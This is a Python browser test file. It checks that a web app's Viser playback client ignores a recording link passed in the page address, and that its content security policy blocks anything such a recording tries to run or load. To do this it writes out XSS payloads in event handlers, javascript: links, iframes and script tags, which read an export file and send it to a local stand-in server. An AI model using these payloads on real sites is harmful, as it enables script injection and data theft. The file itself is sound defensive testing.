"""Links that bring code along: what is in a recording that Viser's client shows may not run or send anything.

The client is told by the query of its address where a recording is. No query reaches it (the first test);
and if one did, the policy of the page would stop the rest (the second).
"""

from __future__ import annotations

import base64
import http.server
import threading
from urllib.parse import quote

import pytest
import viser
from viser import _messages

from browser.test_page import DESKTOP, until
from onedemo.demos.video import write_webm

pytestmark = pytest.mark.seam

SHOWN = "The recording is shown"


class Elsewhere(http.server.ThreadingHTTPServer):
    """Another site: it gives the recording to everybody, and notes what else it is asked for."""

    daemon_threads = True

    def __init__(self):
        self.asked, self.recording = [], b""
        super().__init__(("127.0.0.1", 0), Answer)
        self.url = f"http://127.0.0.1:{self.server_port}"


class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        recording = self.path == "/recording.viser"
        if not recording:
            self.server.asked.append(self.path)
        body = self.server.recording if recording else b"<p>x"
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


def code(what, elsewhere):
    """JavaScript that leaves a trace and sends what it can read away."""
    return (
        f"window.ran=(window.ran||[]).concat('{what}');fetch('/export.csv').then(r=>r.text())"
        f".then(t=>{{new Image().src='{elsewhere}/{what}?'+escape(t)}})"
    )


def markup(what, elsewhere):
    """What would run, or ask another site for something, wherever it is taken as HTML."""
    run = code(what, elsewhere)
    return (
        f'<img src="x" onerror="{run}"><svg onload="{run}"></svg><details open ontoggle="{run}">x</details>'
        f'<iframe srcdoc="<script>parent.{run}</script>"></iframe><a href="javascript:{run}">{what}</a>'
        f'<img src="{elsewhere}/{what}-img"><video src="{elsewhere}/{what}-video" autoplay></video>'
        f"<style>@import url({elsewhere}/{what}-style);p{{background:url({elsewhere}/{what}-css)}}</style>"
        f'<object data="{elsewhere}/{what}-object"></object><embed src="{elsewhere}/{what}-embed">'
        f'<form action="{elsewhere}/{what}-form"><button>{what}</button></form>'
        f'<link rel="stylesheet" href="{elsewhere}/{what}-link"><script>{run}</script>'
    )


def recording(elsewhere):
    """What Viser's own serializer makes of ten kinds of messages."""
    server = viser.ViserServer(host="127.0.0.1", port=0, verbose=False)
    try:
        made = server._websock_server.get_message_serializer(filter=lambda message: True)
        gui, icon = server.gui, viser.Icon.ABACUS
        gui.add_command("Command", icon=icon)
        server.scene.add_label("/label", markup("label", elsewhere))
        with gui.add_modal(markup("modal", elsewhere)):  # the panel is not drawn in a playback
            gui.add_html(f"<p>{SHOWN}</p>" + markup("html", elsewhere))
            link, picture = f"javascript:{code('markdown', elsewhere)}", f"{elsewhere}/markdown-picture"
            gui.add_markdown(f"{markup('markdown', elsewhere)}\n\n[go]({link}) ![x]({picture})")
            gui.add_button("Press", icon=icon)
            gui.add_button_group("Group", ("a", "b"))
            gui.add_upload_button("Upload", icon=icon)
            gui.add_tab_group().add_tab("Tab", icon=icon)
        queue = server._websock_server.queue_message
        queue(_messages.RunJavascriptMessage(code("javascript", elsewhere)))
        queue(_messages.LocalStorageSetItemMessage("a", "b"))
        for number, (_, message) in enumerate(made._messages):
            for fields in (message, message.get("props", {})):
                for name in [name for name in fields if "icon" in name]:
                    one = markup(f"icon{number}", elsewhere)
                    fields[name] = (one,) if isinstance(fields[name], (list, tuple)) else one
        kinds = {message["type"] for _, message in made._messages}
        assert len(kinds) >= 10, kinds
        return made.serialize()
    finally:
        server.stop()


@pytest.fixture(scope="module")
def elsewhere():
    site = Elsewhere()
    site.recording = recording(site.url)
    thread = threading.Thread(target=site.serve_forever, daemon=True)
    thread.start()
    yield site
    site.shutdown()
    site.server_close()
    thread.join()


def addresses(elsewhere):
    data = base64.b64encode(elsewhere.recording).decode()
    return f"data:application/octet-stream;base64,{data}", f"{elsewhere.url}/recording.viser"


@pytest.fixture
def signed_in(chromium, site):
    context = chromium.new_context(viewport=DESKTOP)
    context.new_page().goto(site.links["annotator"])
    yield context
    context.close()


def click_everything(page):
    page.evaluate("() => document.querySelectorAll('body a, body button').forEach(one => one.click())")


def test_a_link_with_a_recording_shows_the_page_and_nothing_else(signed_in, site, elsewhere):
    elsewhere.asked.clear()
    page = signed_in.new_page()
    for address in addresses(elsewhere):
        page.goto(f"{site.url}/r/2?playbackPath={quote(address, safe='')}")
        page.wait_for_selector(".od-header", timeout=60_000)
        assert page.url == f"{site.url}/r/2/rate"
        assert page.evaluate("window.ran") is None and SHOWN not in page.content()
    assert elsewhere.asked == []


def test_a_recording_that_is_shown_runs_and_sends_nothing(signed_in, site, elsewhere):
    """As if a way to the client were found again: it shows the recording, and that is all."""
    elsewhere.asked.clear()
    inside, outside = addresses(elsewhere)
    page, said = signed_in.new_page(), []
    page.on("console", lambda message: said.append(message.text))

    def show(address):
        query = f"?playbackPath={quote(address, safe='')}"
        page.add_init_script(f"self === top && history.replaceState(null, '', location.pathname + {query!r})")
        page.goto(f"{site.url}/r/2/")

    show(outside)
    until(lambda: page.wait_for_timeout(50) or any("connect-src" in text for text in said), 60)
    show(inside)
    page.wait_for_selector(f"text={SHOWN}", timeout=60_000)
    for _ in range(2):  # what opens by it, too
        click_everything(page)
        page.wait_for_timeout(300)
    assert page.url.startswith(site.url) and page.evaluate("window.ran") is None
    assert elsewhere.asked == []
    for what in ("script-src-attr 'none'", "img-src 'self'", "object-src 'none'", "form-action 'self'"):
        until(lambda what=what: page.wait_for_timeout(50) or any(what in text for text in said))


NOT_OURS = ("THREE.Clock: This module has been deprecated", "GL Driver Message", "status of 40")
"""What the console may say: of Viser's library, of drawing without a GPU, of what is refused on purpose."""


def test_the_page_needs_nothing_that_its_policy_forbids_and_the_console_is_empty(chromium, site):
    """Every tab, the live robot and a film among them."""
    store, run = site.trainer.store, site.trainer.run
    write_webm(site.trainer.demo.path, site.trainer.frames[:60], fps=30.0)
    site.trainer.add_pairs(2)
    store.runs.add_iteration(
        run, 1, snapshot=1, env_steps=16_000,
        stats={"predicted": 2.0, "kl": 0.01, "best": 2.5, "timeline": [None] * 20 + [2.0] * 20},
    )  # fmt: skip
    context = chromium.new_context(viewport=DESKTOP)
    page, refused = context.new_page(), []
    ours = ("data:", "blob:", site.url)

    def note(said):
        if said.type in ("error", "warning") and not any(text in said.text for text in NOT_OURS):
            refused.append(said.text)

    context.on("console", note)
    context.on("request", lambda asked: asked.url.startswith(ours) or refused.append(asked.url))
    page.on("pageerror", lambda error: refused.append(str(error)))
    page.goto(site.links["researcher"])
    for tab, content in (
        ("Watch", ".od-gallery img"), ("Runs", ".od-runs"), ("Rate", ".od-clip [data-frame]"),
        ("Compare", ".od-pair [data-frame]"), ("Data", ".od-quality"), ("Guide", ".od-example [data-frame]"),
    ):  # fmt: skip
        page.click(f'.od-tabs >> text="{tab}"')
        page.wait_for_selector(f"{content}:visible", timeout=60_000)
        if tab == "Watch":
            page.wait_for_selector("canvas:visible")
        if tab == "Data":  # an error is text, whatever is in it
            page.evaluate(
                "([name, value]) => { const field = document.querySelector('[data-filter] [name=stage]');"
                " field.name = name; field.add(new Option(value)); field.value = value }",
                ["<img src=x>", "<b onclick=alert(1)>"],
            )
            page.click("[data-filter] >> text=Preview")
            page.wait_for_selector(".od-preview >> text=cannot be filtered")
            assert page.locator(".od-preview *").count() == 0
    page.click(".od-account")
    page.click("text=Sign out")
    page.wait_for_selector("text=You are signed out")
    assert page.url == f"{site.url}/signed-out"
    page.goto(f"{site.url}/r/1/")
    page.wait_for_selector("text=Please open your link")
    context.close()
    assert not refused, refused
